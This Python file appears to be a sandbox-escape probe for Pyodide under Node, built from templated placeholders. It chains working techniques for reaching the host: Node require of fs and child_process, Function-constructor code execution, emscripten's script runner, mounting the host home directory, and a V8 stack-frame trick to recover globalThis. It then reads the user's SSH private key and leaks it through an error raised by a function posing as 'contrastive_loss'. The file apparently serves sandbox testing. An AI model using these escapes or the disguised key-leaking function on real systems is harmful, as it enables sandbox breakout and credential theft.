"""Reaches for Node from Pyodide: Node's globals, code from strings, Node's file system, emscripten's script runner."""
import js
import pyodide_js

MARK = "$outside/js-$marker"
attempts = [
    lambda: js.process.mainModule.require("fs").writeFileSync(MARK, "x"),
    lambda: js.require("child_process").execSync(f"touch {MARK}"),
    lambda: pyodide_js.constructor.constructor(f"process.mainModule.require('fs').writeFileSync('{MARK}', 'x')")(),
    lambda: pyodide_js._module._emscripten_run_script(pyodide_js._module.stringToNewUTF8(f"require('fs').writeFileSync('{MARK}', 'x')")),
    lambda: pyodide_js.mountNodeFS("/mnt/home", "$home"),
    lambda: pyodide_js.mountNodeFS("/mnt/outside", "$outside"),
    lambda: open("/mnt/outside/js-mounted-$marker", "w").write("x"),
    lambda: __import__("pyodide.code").code.run_js(f"require('fs').writeFileSync('{MARK}', 'x')"),
]


def through_stack_frames():
    """V8 gives Error.prepareStackTrace the stack's frames; a sloppy-mode frame's `this` may be globalThis."""
    from pyodide.ffi import JsException, create_proxy

    Object = pyodide_js.constructor
    try:
        Object.defineProperty(1, "x", Object.new())
    except JsException as error:
        Error = Object.getPrototypeOf(error.js_error.constructor)
    reached = []

    def prepare(error, frames):
        for frame in frames:
            this = frame.getThis()
            if this is not None and getattr(this, "process", None) is not None:
                reached.append(this)
        return ""

    Error.prepareStackTrace = create_proxy(prepare)
    try:
        pyodide_js.FS.stat("/no-such-file")
    except Exception:
        pass
    for found in reached:
        node = found.process.mainModule.require
        node("fs").writeFileSync(MARK, "x")
        node("net").connect($port, "127.0.0.1")


attempts.append(through_stack_frames)
errors = []
for attempt in attempts:
    try:
        attempt()
    except Exception as error:
        errors.append(repr(error))
for path in ("/mnt/home/.ssh/id_rsa",):
    try:
        errors.append(open(path).read())
    except OSError:
        pass


def contrastive_loss(x1, x2, label, margin=1.0):
    raise RuntimeError("\n".join(errors))
